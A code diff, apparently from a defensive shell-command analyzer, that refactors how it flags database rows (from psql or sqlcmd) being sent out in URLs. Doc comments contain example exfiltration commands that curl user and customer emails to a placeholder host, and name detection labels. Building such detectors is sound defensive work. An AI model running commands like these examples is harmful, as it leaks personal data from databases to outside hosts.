@@ -343,9 +343,7 @@ pub(crate) fn url_data(a: &mut Analyzer, name: &str, inv: &Inv) {
             }
             let Some(v) = secret_var_in(&op.raw) else {
                 // rows a database client printed, given as the body (`-d "$(psql -c …)"`)
-                let mut at = op.clone();
-                at.text = t.clone();
-                data_in_url(a, name, &at, &inv.evidence);
+                data_in_url(a, name, op, &t, &inv.evidence);
                 continue;
             };
             let prev = i
@@ -418,12 +416,12 @@ pub(crate) fn url_data(a: &mut Analyzer, name: &str, inv: &Inv) {
                 .to_string();
             a.upload(name, &target, Some(s), false, &inv.evidence);
         } else {
-            data_in_url(a, name, op, &inv.evidence);
+            data_in_url(a, name, op, &op.text, &inv.evidence);
         }
     }
 }
 
-/// A URL (or, with the URL's text, a body word) built from what a database client or dump printed (`curl "https://x/check?e=$(psql
+/// A URL `url` (the operand `op` itself, or the command's URL for a body word `op`) built from what a database client or dump printed (`curl "https://x/check?e=$(psql
 /// -At -c 'select email from users')"`, `for e in $(sqlcmd -Q "SELECT Email FROM
 /// dbo.Customers"); do curl "https://x/check?e=$e"; done`): the rows go out in the URL as they
 /// would in a body. The upload is `<rows from PROG>` with the producer's command as `producer`,
@@ -432,7 +430,7 @@ pub(crate) fn url_data(a: &mut Analyzer, name: &str, inv: &Inv) {
 /// (`shell/output-upload`, `shell/database-exfiltration`) do not read this label: a count or an
 /// id in a URL is a query. Only data producers
 /// ([`crate::exports::producer_program`]): a hash or a version printed into a URL is a query.
-fn data_in_url(a: &mut Analyzer, name: &str, op: &crate::model::Arg, evidence: &str) {
+fn data_in_url(a: &mut Analyzer, name: &str, op: &crate::model::Arg, url: &str, evidence: &str) {
     let Some(c) = op
         .taint
         .producer
@@ -442,12 +440,7 @@ fn data_in_url(a: &mut Analyzer, name: &str, op: &crate::model::Arg, evidence: &
         return;
     };
     let (program, producer) = (c.program.clone(), c.evidence.clone());
-    let target = op
-        .text
-        .split(['?', '$'])
-        .next()
-        .unwrap_or(&op.text)
-        .to_string();
+    let target = url.split(['?', '$']).next().unwrap_or(url).to_string();
     a.upload(
         name,
         &target,
